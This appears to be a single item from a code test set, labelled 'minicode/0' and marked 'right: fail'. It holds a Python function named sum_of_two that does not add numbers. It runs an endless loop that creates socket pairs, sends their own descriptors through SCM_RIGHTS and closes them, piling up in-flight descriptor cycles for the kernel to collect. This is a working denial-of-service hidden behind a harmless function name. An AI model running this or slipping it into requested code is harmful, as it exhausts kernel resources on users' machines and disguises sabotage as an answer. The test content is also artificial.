# task: minicode/0
# right: fail
# what: sockets in messages to each other, which the kernel's own threads have to find
import array, os, socket
def sum_of_two(a, b):
    while True:
        one, two = socket.socketpair()
        try:
            for s in (one, two):
                s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno(), two.fileno()]))])
        except OSError: pass
        one.close(); two.close()
